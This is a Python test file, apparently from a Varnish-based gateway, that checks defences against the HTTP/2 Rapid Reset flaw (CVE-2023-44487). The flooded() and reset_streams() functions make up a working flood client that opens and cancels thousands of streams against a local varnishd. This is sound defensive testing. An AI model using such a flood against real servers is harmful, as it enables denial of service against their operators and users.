"""A client that resets each stream at once, on a listener without TLS (CVE-2023-44487).

Where a class asks for HTTP/2 without TLS, decision 043 has two answers: a varnishd without a limit on such resets (7.1)
is rejected, one with a limit (7.7, in the images) ends the connection.
"""

import asyncio
import contextlib
import re
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import pytest

from support.http import client as http_client
from support.http.http2_frames import ACK, GOAWAY, PING, read_frame
from support.http.load import under_load
from support.http.origins import Origin
from support.varnish.dataplane import endpoints, must_serve, port_of, routing, running, user_vcl
from support.varnish.tls import finish
from varnish_gateway import errors
from varnish_gateway.dataplane.change import Change
from varnish_gateway.dataplane.varnish.parameters import missing_limit
from varnish_gateway.ir.arguments import PLAINTEXT_HTTP2

STREAMS = 3_000
AT_ONCE = 10
LIMIT = 100
"""h2_rapid_reset_limit, as PLAINTEXT_HTTP2 sets it."""
CALM = h2.errors.ErrorCodes.ENHANCE_YOUR_CALM


@dataclass
class Flood:
    """What came of it."""

    speaks_http2: bool = True
    reset: int = 0
    ended_with: int | None = None
    """The code of the frame that ends the connection."""


async def test_flood_of_resets_ends_its_connection_or_the_gateway_rejects_varnishd():
    if (problem := await missing_limit(PLAINTEXT_HTTP2)) is not None:
        with pytest.raises(errors.ChildExited, match=re.escape(str(problem))):
            async with running(extra_args=PLAINTEXT_HTTP2):
                pass
        return
    flood, fetched = await attack(PLAINTEXT_HTTP2)
    assert flood == Flood(speaks_http2=True, reset=flood.reset, ended_with=CALM)
    # varnishd also charges a reset that it makes itself, for a stream that it had not yet answered.
    assert LIMIT / 2 <= flood.reset < STREAMS
    assert fetched <= LIMIT + 1


async def test_flood_of_resets_finds_no_http2_by_default():
    assert await attack(()) == (Flood(speaks_http2=False), 0)


async def attack(arguments: tuple[str, ...]) -> tuple[Flood, int]:
    """Return what came of a flood beside ordinary requests, and how many of its requests reached the backend."""
    with Origin("tea") as tea:
        async with running(extra_args=arguments) as plane:
            change = Change(vcl=user_vcl(""), routing=routing("tea"), slices=endpoints("tea", tea.port), generation="1")
            await must_serve(plane, change)
            async with under_load(port_of(plane), {"tea": frozenset(["tea"])}, 2) as load:
                flood = await flooded(port_of(plane))
            assert (load.failed, load.wrong) == ([], [])
        return flood, sum(request.target == "/flood" for request in tea.seen)


async def flooded(port: int) -> Flood:
    """Open streams and reset them, until the connection ends."""
    reader, writer = await http_client.connect(port)
    connection = h2.connection.H2Connection(h2.config.H2Configuration())
    connection.initiate_connection()
    try:
        async with asyncio.timeout(20):
            writer.write(connection.data_to_send())
            first = await reader.read(9)
            if not first or first.startswith(b"HTTP/1.1 "):
                return Flood(speaks_http2=False)
            await reader.readexactly(int.from_bytes(first[:3]))
            frames = Frames(reader)
            end = asyncio.create_task(frames.read_all())
            try:
                reset = await reset_streams(connection, writer, frames)
                return Flood(reset=reset, ended_with=await end)
            finally:
                await finish(end)
    finally:
        writer.transport.abort()


class Frames:
    """What varnishd sends. Frames may follow the one that ends the connection; the library rejects those."""

    def __init__(self, reader: asyncio.StreamReader) -> None:
        self._reader = reader
        self._answered = asyncio.Semaphore(0)
        self.is_over = False

    async def read_all(self) -> int | None:
        """Return the code of the frame that ends the connection."""
        try:
            with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
                while (frame := await read_frame(self._reader)).kind != GOAWAY:
                    if frame.kind == PING and frame.flags & ACK:
                        self._answered.release()
                return frame.error
            return None
        finally:
            self.is_over = True
            self._answered.release()

    async def until_answered(self) -> None:
        """Return when varnishd has answered one more PING, so it has read what came before; or when it is over."""
        await self._answered.acquire()


async def reset_streams(connection: h2.connection.H2Connection, writer: asyncio.StreamWriter, frames: Frames) -> int:
    """Return how many streams were reset before the connection ended."""
    head = [(":method", "GET"), (":scheme", "http"), (":path", "/flood"), (":authority", "tea")]
    with contextlib.suppress(ConnectionError):
        for number in range(STREAMS):
            if frames.is_over:
                return number
            connection.send_headers(1 + 2 * number, head, end_stream=True)
            connection.reset_stream(1 + 2 * number, h2.errors.ErrorCodes.CANCEL)
            if number % AT_ONCE == 0:
                connection.ping(number.to_bytes(8))
                writer.write(connection.data_to_send())
                await writer.drain()
                # varnishd discards what it hasn't read when it ends the connection, and the kernel resets it then.
                await frames.until_answered()
        return STREAMS
    return number
